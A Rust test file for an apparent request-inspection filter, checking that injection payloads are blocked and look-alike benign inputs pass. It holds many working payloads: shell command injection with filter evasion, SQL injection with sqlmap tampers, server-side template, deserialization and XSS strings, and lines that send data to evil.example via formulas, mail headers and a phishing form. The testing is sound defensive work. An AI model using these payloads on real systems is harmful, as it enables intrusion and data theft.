//! Injections into formats a downstream program evaluates: spreadsheet
//! formulas, YAML object tags, TeX's shell escape, XPath, Twig's sandbox.

use super::*;

#[test]
fn spreadsheet_formulas_that_leave_the_sheet_block() {
    blocks(query("name=%3Dcmd%7C%27%20%2FC%20calc%27%21A0"), Class::Generic);
    blocks(json(r#"{"name":"@SUM(1+1)*cmd|' /C calc'!A0"}"#), Class::Generic);
    blocks(json(r#"{"name":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")"}"#), Class::Generic);
    // A formula that stays in the sheet, and a pipe in prose, are data.
    passes(json(r#"{"cell":"=SUM(A1:A9)","note":"a|b 'quoted' ! done"}"#));
}

#[test]
fn yaml_tags_that_build_objects_block() {
    blocks(json(r#"{"config":"!!python/object/apply:os.system [\"id\"]"}"#), Class::Generic);
    blocks(text("--- !ruby/object:Gem::Installer\ni: x\n"), Class::Generic);
    blocks(query("y=!!javax.script.ScriptEngineManager%20[]"), Class::Generic);
    passes(json(r#"{"config":"--- !!map\nkey: !!str value\n"}"#));
}

#[test]
fn tex_shell_escape_blocks() {
    blocks(json(r#"{"title":"\\immediate\\write18{id}"}"#), Class::Rce);
    passes(json(r#"{"title":"\\textbf{Write} 18 lines"}"#));
}

#[test]
fn xpath_predicates_closed_by_a_value_block() {
    blocks(query("user=%27%29%5D%20%7C%20%2F%2Fuser%2F%2A%5Bcontains%28%2A%2C%27"), Class::Sqli);
    blocks(query("user=%27%5D%2F..%2F%2A%5Bcontains(.,%27admin%27)%5D%7C%2F%2F%2A%5B%27"), Class::Sqli);
    blocks(query("user=doc(%27http%3A%2F%2Fevil.example%2Fx%27)"), Class::Sqli);
    // An array closed before a JavaScript comment is code, not a path.
    messages_pass(&["const keys = ['k1', 'v1'] // then the rest", "[\"Choice A\", \"choice B\"] // shown"]);
}

#[test]
fn twig_sandbox_escapes_block() {
    blocks(query("t=%7B%7B_self.env.registerUndefinedFilterCallback(%22exec%22)%7D%7D"), Class::Template);
}

#[test]
fn server_and_edge_side_includes_block() {
    blocks(json(r#"{"bio":"<!--#printenv -->"}"#), Class::Generic);
    blocks(query("q=%3Cesi%3Ainclude%20src%3D%22%2Fadmin%22%2F%3E"), Class::Generic);
    blocks(json(r#"{"bio":"<esi:vars>$(HTTP_COOKIE)</esi:vars>"}"#), Class::Generic);
    passes(json(r#"{"bio":"<!-- #region helpers --> see esi: the docs"}"#));
}

#[test]
fn pickles_and_copy_to_program_block() {
    blocks(json(r#"{"state":"cos\nsystem\n(S'id'\ntR."}"#), Class::Rce);
    blocks(query("id=1%3Bcopy%20%28select%20%27%27%29%20to%20program%20%27id%27"), Class::Sqli);
    passes(json(r#"{"note":"copy the installer to Program Files and run it"}"#));
}

#[test]
fn template_expressions_reaching_the_runtime_block() {
    blocks(json(r#"{"name":"${applicationScope}"}"#), Class::Java);
    blocks(query("q=%24%7B%40system%28id%29%7D"), Class::Php);
    blocks(
        json(
            r#"{"t":"{{#with \"s\" as |string|}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}"}"#,
        ),
        Class::Template,
    );
    passes(json(r#"{"t":"{{#with author as |a|}}{{a.name}}{{/with}}"}"#));
}

#[test]
fn a_command_on_the_line_a_json_string_opens_blocks() {
    // `%0aid` in a query keeps its break through trimming; the same value
    // decoded from JSON must too.
    blocks(json(r#"{"host":"\nid"}"#), Class::Rce);
    blocks(json(r#"{"host":"\r\n  whoami"}"#), Class::Rce);
    passes(json(r#"{"title":"\nIdentity card"}"#));
    // A word command takes a shell's argument on its line, as after `;`.
    blocks(json(r#"{"ip":"x\r\nping -n 10 127.0.0.1"}"#), Class::Rce);
    blocks(query("f=8.8.8.8%20%0afind%09%2F%09-perm%09-4000"), Class::Rce);
    passes(json(r#"{"address":"12 Station Road\nTime to go"}"#));
    passes(json(r#"{"note":"Call at six\nfind the blue door"}"#));
}

#[test]
fn commands_spelled_past_filters_block() {
    // ANSI-C quoting (`$'\x6c\x73'` is `ls`), a substitution holding a
    // backquoted one, input redirected into an English word's command.
    blocks(query("f=%22%0D%0A%24%27%5Cx6c%5Cx73%27%20-la%20%2F"), Class::Rce);
    blocks(json(r#"{"t":"1`$'\\x6c\\x73' -la /`"}"#), Class::Rce);
    blocks(json(r#"{"cmd":"report.pdf$(`uname`)"}"#), Class::Rce);
    blocks(json(r#"{"name":"\"&touch</tmp/x\""}"#), Class::Rce);
    blocks(query("ip=%3B%20find%3C%2F%20-perm%20-4000%20%23"), Class::Rce);
    passes(json(r#"{"script":"IFS=$'\\n' read -r line"}"#));
    passes(json(r#"{"price":"It cost $'5' more"}"#));
}

#[test]
fn serialized_gadgets_of_dotnet_and_ruby_block() {
    blocks(query("s=BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg%3D%3D"), Class::Generic);
    blocks(
        json(r#"{"state":"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3Jtcw=="}"#),
        Class::Generic,
    );
    blocks(json(r#"{"json_class":"Gem::Installer","i":"x"}"#), Class::Generic);
    // A Rails session cookie is Marshal data too; no gadget, no finding.
    passes(query("s=BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTQ2"));
}

#[test]
fn mail_headers_after_an_address_block() {
    blocks(json(r#"{"email":"victim@example.com\r\nBcc: attacker@evil.example"}"#), Class::Protocol);
    blocks(query("email=victim%40example.com%0ACc%3Aattacker%40evil.example"), Class::Protocol);
    passes(json(r#"{"contact":"alice@example.com","note":"To: the whole team"}"#));
}

#[test]
fn template_probes_of_more_engines_block() {
    for probe in [
        "{{7*'7'}}",
        "{$smarty.version}",
        "<#list .data_model?keys as k>${k}</#list>",
        "{{ 'id' | system }}",
        "{{dump(app)}}",
        "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    ] {
        blocks(json(&serde_json::json!({ "t": probe }).to_string()), Class::Template);
    }
    // Helm's and Go's templates in a chart's values are data.
    passes(json(r#"{"image":"{{ .Values.image.repository }}:{{ .Values.image.tag }}"}"#));
}

/// Rich text: inline CSS, raster images inline, fragment links and colours
/// pass; CSS or an inline image that can run code does not.
#[test]
fn rich_text_markup_that_runs_nothing_passes() {
    for html in [
        r#"<p style="color: rgb(255, 0, 0);">Red</p>"#,
        r#"<span style="font-family: Arial, Helvetica, sans-serif; font-size: 14px;">Hi</span>"#,
        r#"<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p>"#,
        r##"<a href="#section-2">Jump</a><table><tr><td bgcolor="#ffffff">x</td></tr></table>"##,
    ] {
        passes(json(&serde_json::json!({ "html": html }).to_string()));
    }
    blocks(json(r#"{"html":"<div style=\"background:url(javascript:alert(1))\">"}"#), Class::Xss);
    blocks(
        json(r#"{"html":"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"}"#),
        Class::Xss,
    );
    blocks(json(r#"{"html":"<p style=\"color:red\" onmouseover=\"alert(1)\">x</p>"}"#), Class::Xss);
}

/// User content rendered to HTML, as APIs return it beside its source
/// (Reddit's `body_html`, a CMS's body), passes as JSON, as a form field
/// and nested in a JSON string; markup around a payload for a script or a
/// string context, dangling markup and a phishing form do not.
#[test]
fn rendered_rich_text_passes_and_markup_around_a_payload_does_not() {
    let rendered = concat!(
        r#"<!-- SC_OFF --><div class="md"><p>Hello <a href="/u/ada">u/ada</a>, see "#,
        r#"<a href="https://example.com/a?b=1&amp;c=2">this</a>:</p><pre><code>&lt;class "#,
        r#"&#39;praw.models.Comment&#39;&gt;</code></pre><hr/></div><!-- SC_ON -->"#
    );
    passes(json(&serde_json::json!({ "body_html": rendered }).to_string()));
    // Nested, the document's strings are read decoded: escaped code in
    // them reads as markup (left alone: rare in nested documents).
    let plain = r#"<!-- SC_OFF --><div class="md"><p>Rule 1: <a href="/r/ada/wiki">be kind</a></p></div>"#;
    let nested = serde_json::json!({ "descriptionHtml": plain }).to_string();
    passes(json(&serde_json::json!({ "widget": nested }).to_string()));
    let encoded: String = rendered.bytes().map(|b| format!("%{b:02X}")).collect();
    passes(typed("application/x-www-form-urlencoded", &format!("text={encoded}")));
    passes(query(&format!("text={encoded}")));
    for html in [
        "<b>x</b>';alert(1);//",
        r#"<a href="javascript&colon;alert(1)">x</a>"#,
        r#"<p>x</p><a href="https://evil.example/?c="#,
        r#"<form action="https://evil.example/"><input type="password" name="pw"></form>"#,
        "<p>{{constructor.constructor('alert(1)')()}}</p>",
        "<p>x</p><iframe src=//evil.example></iframe>",
    ] {
        blocks(json(&serde_json::json!({ "body_html": html }).to_string()), Class::Xss);
    }
}

/// A JSON document as a query argument, or in base64 as a pagination
/// token, is judged by its strings: its own quotes, `null` and numbers are
/// no SQL; an injection in one of its strings blocks.
#[test]
fn json_documents_in_query_arguments_are_judged_by_their_strings() {
    passes(query(
        "metrics=%7B%22Environment%22%3A%7B%22LatencyP99.9%22%3A%20null%2C%22Severe%22%3A%2060%7D%7D",
    ));
    // {"Marker": null, "boto_truncate_amount": 2}
    passes(query("NextToken=eyJNYXJrZXIiOiBudWxsLCAiYm90b190cnVuY2F0ZV9hbW91bnQiOiAyfQ=="));
    blocks(query("filter=%7B%22q%22%3A%221%27%20or%20%271%27%3D%271%22%7D"), Class::Sqli);
    // {"q":"1' union select password from users--"}
    blocks(query("t=eyJxIjoiMScgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnMtLSJ9"), Class::Sqli);
}

#[test]
fn xhtml_and_svg_inside_xml_bodies_are_judged_as_markup() {
    let xml = |body: &str| typed("application/xml", body);
    let atom = |content: &str| {
        let doc = format!(
            r#"<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{content}</div></content></entry></feed>"#
        );
        typed("application/atom+xml", &doc)
    };
    blocks(atom(r#"<img src="x" onerror="alert(1)"/>"#), Class::Xss);
    blocks(
        xml(r#"<r xmlns:h="http://www.w3.org/1999/xhtml"><h:iframe src="http://evil.example/"/></r>"#),
        Class::Xss,
    );
    blocks(
        xml(r#"<d><svg xmlns="http://www.w3.org/2000/svg" onload="top.location='//evil.example'"/></d>"#),
        Class::Xss,
    );
    passes(atom(
        r#"<p style="color: red !important">Hi <b>there</b>, <a href="https://example.com/">see</a>.</p>"#,
    ));
    passes(xml(
        r#"<icon><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect width="9" height="9"/></svg></icon>"#,
    ));
    // Outside those namespaces, element names are the schema's.
    passes(xml(
        "<project><meta>x</meta><style>compact</style><object>car</object><frame>1</frame></project>",
    ));
}

#[test]
fn markup_that_names_no_active_element_passes() {
    // `<blink>` is not `<link>`; empty block elements are no SQL.
    messages_pass(&["History of the <blink> tag", "<div></div>", "<table></table>", "<select></select>"]);
    blocks(
        json(r#"{"m":"<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>"}"#),
        Class::Xss,
    );
}

#[test]
fn a_doctype_of_literal_entities_passes_and_one_that_expands_does_not() {
    let xml = |body: &str| typed("application/xml", body);
    passes(xml(
        "<!DOCTYPE rss [\n  <!ENTITY id \"tag:example.com,\">\n]>\n<rss><guid>&id;2006-05-04:/blog/</guid></rss>",
    ));
    let laughs = r#"<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>"#;
    blocks(xml(laughs), Class::Xss);
}

#[test]
fn sqlmaps_tampers_do_not_hide_a_statement() {
    // `percentage`: classic ASP drops a `%` that escapes nothing.
    blocks(query("id=%1%20%U%N%I%O%N%20%S%E%L%E%C%T%20%N%U%L%L%,%N%U%L%L%-%-%20%-"), Class::Sqli);
    passes(query("fmt=%d-%m-%Y%20%H:%M&discount=50%"));
    // `space2mssqlblank`: SQL Server reads every control character as a space.
    blocks(
        query(
            "id=1)%0BAS%06ejjj%01WHERE%079676=4850%0D(SELECT%0A(CASE%06WHEN%0E(9671=6716)%0ATHEN%0D1%0BELSE%0C6421%02END))--%02-",
        ),
        Class::Sqli,
    );
    // And a program that strips controls before use reads `UNI%05ON` as
    // `UNION`: both readings are inspected.
    blocks(query("id=1%27%20UNI%05ON%20SEL%05ECT%20password%20FROM%20users--"), Class::Sqli);
    // `base64encode` in a JSON field.
    blocks(
        json(
            r#"{"id":"MScgT1IgJ2FlZWYnPVJFR0VYUF9TVUJTVFJJTkcoUkVQRUFUKFJJR0hUKENIQVIoNjc4MCksMCksNTAwMDAwMDAwMCksTlVMTCktLSAt"}"#,
        ),
        Class::Sqli,
    );
}

#[test]
fn xslt_extensions_that_run_code_block() {
    let xml = |body: &str| typed("application/xml", body);
    // defusedxml's xalan_write.xsl: Xalan's redirect extension writes a file.
    let write = r#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
        xmlns:redirect="http://xml.apache.org/xalan/redirect" extension-element-prefixes="redirect">
        <xsl:template match="/"><redirect:write file="x.txt">bad</redirect:write></xsl:template></xsl:stylesheet>"#;
    blocks(xml(write), Class::Generic);
    blocks(xml(r#"<xsl:stylesheet xmlns:php="http://php.net/xsl"><x/></xsl:stylesheet>"#), Class::Generic);
    blocks(xml(r#"<x xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script/></x>"#), Class::Generic);
    // A plain stylesheet, and prose naming the namespace.
    passes(xml(
        r#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">hi</xsl:template></xsl:stylesheet>"#,
    ));
    passes(json(r#"{"note":"Xalan's http://xml.apache.org/xalan/redirect extension writes files"}"#));
}
